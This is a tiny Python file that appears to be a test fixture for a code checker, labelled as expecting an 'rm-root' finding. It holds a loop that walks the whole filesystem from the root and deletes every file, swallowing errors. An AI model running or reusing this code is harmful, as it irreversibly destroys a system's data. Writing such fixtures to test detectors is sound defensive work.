# expect: rm-root 7:16
import os

for root, dirs, files in os.walk("/"):
    for name in files:
        try:
            os.remove(os.path.join(root, name))
        except OSError:
            pass
